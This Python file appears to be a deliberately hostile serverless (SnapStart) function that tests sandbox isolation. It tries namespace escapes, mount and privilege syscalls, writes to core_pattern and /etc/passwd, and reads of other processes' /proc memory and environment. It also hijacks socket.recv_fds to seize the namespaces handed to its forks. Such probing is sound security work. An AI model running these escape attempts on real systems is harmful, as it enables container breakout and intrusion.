"""A hostile function with SnapStart: its seed tries what its forks may not, when it is initialized and when it is told to fork.

Beside what `attempts` tries, it is the seed that is handed the namespaces of its forks. "done…" is a success of the attacker.
"""

import ctypes
import errno
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
KINDS = {"mnt": 0x20000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000, "pid": 0x20000000, "net": 0x40000000}
KINDS |= {"cgroup": 0x2000000, "time": 0x80}
found = {}
hear, told = os.pipe()
os.set_blocking(hear, False)
seed = os.getpid()


def tried(result):
    return "done" if result >= 0 else errno.errorcode[ctypes.get_errno()]


def opened(path, flags=os.O_RDONLY):
    try:
        file = os.open(path, flags)
    except OSError as error:
        return errno.errorcode[error.errno]
    try:
        # Of one that has ended there is nothing in it.
        empty = path.endswith(("/maps", "/environ")) and not os.read(file, 1)
    except OSError as error:
        return errno.errorcode[error.errno]
    finally:
        os.close(file)
    return "empty" if empty else "done"


def others():
    # Of its own user are itself, and whoever lurks for it.
    own = {1, os.getpid(), int(os.readlink("/proc/self")), *children()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def children():
    own = os.readlink("/proc/self")
    try:
        with open(f"/proc/{own}/task/{own}/children") as file:
            return [int(pid) for pid in file.read().split()]
    except OSError:
        return []


def note(name, said):
    """What succeeded once stays said."""
    if not str(found.get(name, "")).startswith("done"):
        found[name] = said


def seize(when):
    """What rights over a namespace would be good for."""
    for name, flag in KINDS.items():
        note(f"{when} unshare {name}", tried(libc.unshare(flag)))
    for name, arguments in {
        "mount tmpfs on /etc": (165, b"x", b"/etc", b"tmpfs", 0, None),
        "mount proc on /tmp": (165, b"proc", b"/tmp", b"proc", 0, None),
        "bind / on /tmp": (165, b"/", b"/tmp", None, 4096 | 16384, None),
        "remount /var/task": (165, None, b"/var/task", None, 32 | 4096, None),
        "umount /proc": (166, b"/proc", 2), "umount /etc": (166, b"/etc/passwd", 2), "chroot": (161, b"/tmp"),
        "pivot_root": (155, b"/tmp", b"/tmp"), "sethostname": (170, b"x", 1), "setdomainname": (171, b"x", 1),
        "open_tree": (428, -100, b"/", 1), "move_mount": (429, -100, b"/usr", -100, b"/tmp", 0),
        "fsopen": (430, b"tmpfs", 0), "mount_setattr": (442, -100, b"/", 0, bytes(32), 32), "bpf": (321, 0, 0, 0),
        "netlink": (41, 16, 3, 0), "raw socket": (41, 2, 3, 1), "packets": (41, 17, 3, 0), "fanotify": (300, 0, 0),
        "clone user": (56, 0x10000000 | 17, 0, 0, 0, 0), "clone3 user": (435, bytes(64), 64), "keyctl": (250, 0, -3, 0, 0, 0),
        "open by handle": (304, -100, bytes(64), 0), "pidfd_getfd": (438, 3, 3, 0), "setuid": (105, 0),
    }.items():  # fmt: skip
        result = libc.syscall(*arguments)
        if result == 0 and name.startswith("clone"):
            os._exit(0)
        note(f"{when} {name}", tried(result))
    for path in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
        note(f"{when} write {path}", opened(path, os.O_WRONLY))
    for path in ("/etc/passwd", "/usr/x", "/var/task/x", "/x"):
        note(f"{when} write {path}", opened(path, os.O_WRONLY | os.O_CREAT))
    for path in ("/.host/etc", "/sys/fs/cgroup", "/var/lib", "/boot"):
        note(f"{when} read {path}", opened(path))


def enter(when):
    """The namespaces of others, and its own, which belong to the machine or to the template."""
    for name, flag in KINDS.items():
        # What it was handed it may enter again.
        if name != "pid" and not (when == "inside" and name in ("mnt", "uts", "ipc", "net")):
            for kind in (0, flag):
                own = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
                note(f"{when} own {name} {kind}", tried(libc.setns(own, kind)))
                os.close(own)
    look(when)


def look(when):
    """Into all that it sees and that is not itself: those who make the namespaces of its forks."""
    for pid in others():
        for part in ("mem", "environ", "maps", "root/etc", "cwd", "fd", "fdinfo", "ns/mnt", "ns/user", "map_files"):
            note(f"{when} look into another's {part}", opened(f"/proc/{pid}/{part}"))
        note(f"{when} write another's memory", opened(f"/proc/{pid}/mem", os.O_RDWR))
        for change in ("uid_map", "setgroups", "oom_score_adj"):
            note(f"{when} write another's {change}", opened(f"/proc/{pid}/{change}", os.O_WRONLY))
        try:
            watched = os.pidfd_open(pid)
        except OSError:
            continue
        for name, flag in KINDS.items():
            if name != "pid":
                note(f"{when} enter another's {name}", tried(libc.setns(watched, flag)))
        os.close(watched)


def lurk():
    """In a child: a thread would keep the seed from entering mounts."""
    own = os.getpid()
    for _ in range(2000):
        look("lurking")
        for name in [name for name, said in found.items() if str(said).startswith("done")]:
            os.write(told, f"{name}\n".encode())
            del found[name]
        if os.getppid() != seed or own != os.getpid():
            break
    os._exit(0)


taken = socket.recv_fds


def take(channel, *arguments):
    """In the place of the seed's own: it is handed what its fork will be confined to, and tries all before that is."""
    answer = taken(channel, *arguments)
    if answer[1]:
        mounts, ipc, uts, _, network = answer[1][:5]
        found["handed"] = sorted(os.readlink(f"/proc/self/fd/{one}").partition(":")[0] for one in answer[1])
        found["entered as another kind"] = tried(libc.setns(mounts, 0x10000000))
        for name, descriptor in (("ipc", ipc), ("uts", uts), ("net", network)):
            found[f"entered {name}"] = tried(libc.setns(descriptor, KINDS[name]))
        enter("inside")
        # There it does not see itself in /proc.
        found["entered mnt"] = tried(libc.setns(mounts, KINDS["mnt"]))
        seize("inside")
    return answer


found["open"] = []
for name in os.listdir("/proc/self/fd"):
    try:
        found["open"].append(os.readlink(f"/proc/self/fd/{name}"))
    except OSError:
        continue
enter("early")
seize("early")
socket.recv_fds = take
if os.fork() == 0:
    lurk()


def handler(event, context):
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file.read().splitlines())
    after = tried(libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), KINDS["net"]))
    try:
        lurking = os.read(hear, 4096).decode().split("\n")[:-1]
    except BlockingIOError:
        lurking = []
    return {
        **found,
        **dict.fromkeys(lurking, "done"),
        "capabilities": status["CapEff"].strip(),
        "entered afterwards": after,
    }
